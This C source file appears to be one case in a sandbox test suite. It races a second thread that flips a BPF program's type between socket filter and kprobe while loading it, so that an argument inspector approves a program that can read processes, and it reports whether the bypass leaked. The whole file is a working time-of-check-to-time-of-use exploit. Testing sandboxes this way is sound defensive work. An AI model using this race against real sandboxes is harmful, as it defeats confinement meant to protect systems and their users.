// SPDX-License-Identifier: Apache-2.0
// Load a program of BPF that may read processes, shown to whoever looks at the call's arguments as one that may not: another
// thread changes its type all the while.
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/resource.h>
#include <time.h>

#include "insn.h"
#include "row.h"

#define TRIES 300
#define LONG_ENOUGH 20 // seconds; the other thread may not run for a while
#define HOLD 8

static union bpf_attr attr;
static atomic_bool over;

// On a processor of its own, where there are two.
static void stay_on(int processor)
{
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(processor, &set);
    (void)sched_setaffinity(0, sizeof(set), &set);
}

static void *change(void *context)
{
    stay_on(1);
    // Each for as long as the other, and seen by other processors.
    for (unsigned i = 0; !atomic_load_explicit(&over, memory_order_relaxed); i++) {
        __atomic_store_n(&attr.prog_type,
                         i % HOLD < HOLD / 2 ? BPF_PROG_TYPE_SOCKET_FILTER : BPF_PROG_TYPE_KPROBE,
                         __ATOMIC_SEQ_CST);
    }
    return context;
}

static bool may_read(long program)
{
    struct bpf_prog_info info = {0};
    union bpf_attr ask = {.info = {.bpf_fd = (unsigned)program,
                                   .info_len = sizeof(info),
                                   .info = (unsigned long)&info}};
    return row_bpf(BPF_OBJ_GET_INFO_BY_FD, &ask) == 0 && info.type == BPF_PROG_TYPE_KPROBE;
}

enum row_result row_attack(const struct row_victim *victim)
{
    static struct bpf_insn program[] = {SET(BPF_REG_0, 0), END};
    enum row_result result = ROW_ABSENT;
    // Before 5.11 programs count against it, also for a while after they are closed; more are refused by EPERM.
    const struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
    pthread_t thread;
    (void)victim;
    (void)setrlimit(RLIMIT_MEMLOCK, &any);
    attr = (union bpf_attr){.prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
                            .insns = (unsigned long)program,
                            .insn_cnt = sizeof(program) / sizeof(program[0]),
                            .license = (unsigned long)"GPL"};
    if (pthread_create(&thread, NULL, change, NULL) != 0) {
        return ROW_ABSENT;
    }
    stay_on(0);
    const time_t end = time(NULL) + LONG_ENOUGH;
    for (int i = 0;
         result != ROW_LEAKED && (i < TRIES || (result == ROW_ABSENT && time(NULL) < end)); i++) {
        long loaded = row_bpf(BPF_PROG_LOAD, &attr);
        if (loaded >= 0) {
            result = may_read(loaded) ? ROW_LEAKED : result;
            close((int)loaded);
        } else if (errno == EPERM) {
            result = ROW_REFUSED;
        }
    }
    atomic_store(&over, true);
    pthread_join(thread, NULL);
    return result;
}
